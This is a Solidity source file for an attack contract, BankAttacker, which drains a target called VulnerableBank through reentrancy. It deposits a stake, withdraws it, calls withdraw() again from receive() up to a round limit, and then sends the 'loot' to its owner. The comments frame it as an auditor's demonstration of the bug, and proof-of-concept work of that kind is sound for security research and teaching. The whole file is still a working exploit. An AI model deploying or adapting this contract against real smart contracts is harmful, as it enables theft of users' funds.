// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice The part of VulnerableBank that the attacker uses.
interface IVulnerableBank {
    function deposit() external payable;

    function withdraw() external;

    function balances(address who) external view returns (uint256);
}

/// @title BankAttacker: drains VulnerableBank through reentrancy
/// @notice Deposits a stake, withdraws it, and from receive() withdraws again (the bank
/// still has her balance on its books) while the bank can pay and the round limit allows. Written as an auditor
/// would, to demonstrate the bug in VulnerableBank.sol; it is an attack contract on purpose.
contract BankAttacker {
    /// @notice The bank under attack.
    IVulnerableBank public immutable bank;
    /// @notice The account that may run the attack and collect the loot.
    address public immutable owner;
    /// @notice Re-entries allowed per attack (keeps the call depth and gas bounded).
    uint256 public immutable maxRounds;
    /// @notice Re-entries made during the current attack.
    uint256 public rounds;

    event Round(uint256 round, uint256 bankBalance);

    constructor(address bank_, uint256 maxRounds_) {
        bank = IVulnerableBank(bank_);
        owner = msg.sender;
        maxRounds = maxRounds_;
    }

    /// @notice Deposits `msg.value` and withdraws it with re-entries.
    function attack() external payable {
        require(msg.sender == owner, "not owner");
        require(msg.value > 0, "need a stake");
        rounds = 0;
        bank.deposit{value: msg.value}();
        bank.withdraw();
    }

    receive() external payable {
        uint256 amount = msg.value;
        if (msg.sender == address(bank) && rounds < maxRounds && address(bank).balance >= amount) {
            rounds += 1;
            emit Round(rounds, address(bank).balance);
            bank.withdraw();
        }
    }

    /// @notice Sends the loot to the owner.
    function collect() external {
        require(msg.sender == owner, "not owner");
        payable(owner).transfer(address(this).balance);
    }
}
